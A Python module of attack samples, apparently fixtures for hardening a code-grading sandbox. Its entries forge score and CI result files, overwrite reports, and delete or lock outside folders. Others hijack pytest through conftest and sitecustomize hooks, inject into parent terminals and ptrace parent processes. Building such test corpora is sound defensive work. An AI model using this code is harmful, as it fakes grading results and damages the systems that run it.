"""Attacks that try to leave something where others find it, or to have it cleared away wrongly."""

from .attack import Attack

ATTACKS = {
    "it writes results where a grader or a platform reads them": Attack(
        """
def attack(values):
    full = '{"score": 9, "tests": [], "schema_version": 1}'
    names = ("report.json", "results.json", "test_results.xml", "grades", "summary.md")
    for folder in (*PLACES, os.path.dirname(FILE), "/tmp", "/autograder/results", "/github", "/"):
        for name in names:
            try:
                open(os.path.join(folder, name), "w").write(full)
            except OSError:
                pass
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
        if name in os.environ:
            open(os.environ[name], "a").write("result=passed")
    return [0.0]

attack([])
""",
        against="file system",
    ),
    "it waits for a report and writes over it": Attack(
        """
import time

def attack(values):
    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(0.01)
            for place in PLACES:
                path = os.path.join(os.path.dirname(place), "report", "report.json")
                try:
                    os.chmod(path, 0o666)
                    open(path, "w").write("{}")
                except OSError:
                    pass
    return [0.0]
""",
        against="file system",
    ),
    "it removes and replaces what lies outside": Attack(
        """
import shutil

def attack(values):
    for place in PLACES:
        shutil.rmtree(place, ignore_errors=True)
        for act in (os.unlink, os.rmdir, lambda p: os.rename(p, p + "2"), lambda p: os.chmod(p, 0)):
            try:
                act(FILE)
                act(place)
            except OSError:
                pass
    return [0.0]
""",
        against="file system",
    ),
    "it writes into its own staged sources and their caches": Attack(
        """
import shutil

def attack(values):
    here = os.path.dirname(__file__)
    os.makedirs(os.path.join(here, "__pycache__"), exist_ok=True)
    for name in os.listdir(here):
        open(os.path.join(here, name), "w").write("raise SystemExit")
    shutil.rmtree(here)

def run_moving_average(values, width):
    try:
        attack(values)
    except OSError:
        pass
    return [0.0]
""",
        against="file system",
    ),
    "links to outside stand where folders are cleared away": Attack("""
def attack(values):
    os.makedirs("deep/deeper")
    for number, place in enumerate([*PLACES, os.path.dirname(FILE), "/dev/shm", "/"]):
        os.symlink(place, f"link-{number}")
        os.symlink(place, f"deep/deeper/link-{number}")
        try:
            os.symlink(place, f"../check-{number}")
        except OSError:
            pass
    return [0.0]
"""),
    "a folder becomes a link again and again while it is cleared away": Attack("""
import time

def attack(values):
    os.makedirs("swapped/inner")
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.rename("swapped", "kept")
                os.symlink(PLACES[0], "swapped")
                os.unlink("swapped")
                os.rename("kept", "swapped")
            except OSError:
                pass
    time.sleep(0.1)
    return [0.0]
"""),
    "files have names that no program expects": Attack("""
def attack(values):
    for name in (b"-rf", b"--", b"a\\nb", b"\\xff\\xfe", b"*", b"$(id)", b"n" * 255, b" ",
                 b"\\x1b[31m"):
        os.mkdir(name)
        open(os.path.join(name, name), "w").close()
    return [0.0]
"""),
    "folders are closed to everybody, and so is its own": Attack("""
def attack(values):
    os.makedirs("closed/inner")
    open("closed/inner/file", "w").close()
    os.chmod("closed/inner", 0)
    os.chmod("closed", 0)
    for place in (".", "..", "../..", os.environ["HOME"]):
        try:
            os.chmod(place, 0)
        except OSError:
            pass
    return [0.0]
"""),
    "its own folder is gone, or is another": Attack("""
def attack(values):
    here = os.getcwd()
    for act in (
        lambda: os.rename(here, here + "-moved"),
        lambda: os.rmdir(here),
        lambda: os.rename("../imported", "../elsewhere"),
        lambda: os.symlink(PLACES[0], here),
    ):
        try:
            act()
        except OSError:
            pass
    return [0.0]
"""),
    "folders are nested deeper than a path can be": Attack("""
def attack(values):
    for _ in range(1500):
        os.mkdir("deeper-and-deeper")
        os.chdir("deeper-and-deeper")
    return [0.0]
"""),
    "pipes, sockets and holes are left": Attack("""
import socket

def attack(values):
    os.mkfifo("pipe")
    socket.socket(socket.AF_UNIX).bind("socket")
    with open("hole", "wb") as file:
        file.truncate(2**28)
    return [0.0]
"""),
    "memory that is shared by name is left": Attack(
        """
from multiprocessing.shared_memory import SharedMemory

def attack(values):
    try:
        open("/dev/shm/canary-left", "w").write("left")
        SharedMemory("canary-shared", create=True, size=2**20)
    except OSError:
        pass
    return [0.0]
""",
        against="shared memory",
    ),
    "all files that it may have are made, then another check needs some": Attack("""
def attack(values):
    for number in range(10**5):
        try:
            open(f"file-{number}", "w").write("x" * 10**5)
        except OSError:
            break
    return [0.0]

def run_count_words(text):
    open("needed", "w").write(text)
    words = open("needed").read().lower().split()
    return {word: words.count(word) for word in words}
"""),
    "it runs a program that is nowhere in the file system": Attack(
        """
import ctypes, subprocess

def attack(values):
    program = os.memfd_create("program", 0)
    os.write(program, open("/bin/cat", "rb").read())
    done = subprocess.run([f"/proc/self/fd/{program}", FILE], pass_fds=[program],
                          capture_output=True, timeout=4)
    raise RuntimeError(loot(done.stdout))
""",
        against="file system",
    ),
    "it writes to its parents' descriptors and terminals": Attack(
        """
import fcntl, termios

def attack(values):
    for pid in [os.getppid(), 1, *PIDS]:
        for number in range(16):
            try:
                file = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(file, b'{"event": "done"}' + bytes([10]))
            except OSError:
                pass
    for path in ("/dev/tty", "/dev/console", "/dev/kmsg", "/dev/ptmx"):
        try:
            with open(path, "wb") as terminal:
                terminal.write(b"x")
                fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
        except OSError:
            pass
    return [0.0]
""",
        against="processes",
    ),
    "it limits and traces its parents, and borrows their files": Attack(
        """
import ctypes, resource

def attack(values):
    libc = ctypes.CDLL(None)
    for pid in [os.getppid(), *PIDS]:
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        except OSError:
            pass
        libc.ptrace(16, pid, None, None)
        borrowed = libc.syscall(434, pid, 0)
        for number in range(3, 16):
            libc.syscall(438, borrowed, number, 0)
    return [0.0]
""",
        against="processes",
    ),
    "the submission brings what Python and pytest start with": Attack(
        "\n",
        files={
            "conftest.py": "import os; os._exit(0)\n",
            "tests/conftest.py": "import os; os._exit(0)\n",
            "pytest.ini": "[pytest]\naddopts = --collect-only\n",
            "setup.cfg": "[tool:pytest]\naddopts = --co\n",
            "sitecustomize.py": "import os; os._exit(0)\n",
            "usercustomize.py": "import os; os._exit(0)\n",
            "evil.pth": "import os; os._exit(0)\n",
            "torch.py": "raise SystemExit(0)\n",
            "numpy/__init__.py": "raise SystemExit(0)\n",
            "json.py": "raise SystemExit(0)\n",
            "cs336_grader/__init__.py": "raise SystemExit(0)\n",
            "statistics_basics/__init__.py": "",
            "tests/test_counting.py": "def test_count_words(): pass\n",
            "tests/rubric.toml": "title = 'mine'\n",
            "results.json": '{"score": 9}',
            "tests/__pycache__/adapters.cpython-311.pyc": b"\x00" * 64,
            "setup.py": "import os; os._exit(0)\n",
        },
    ),
}
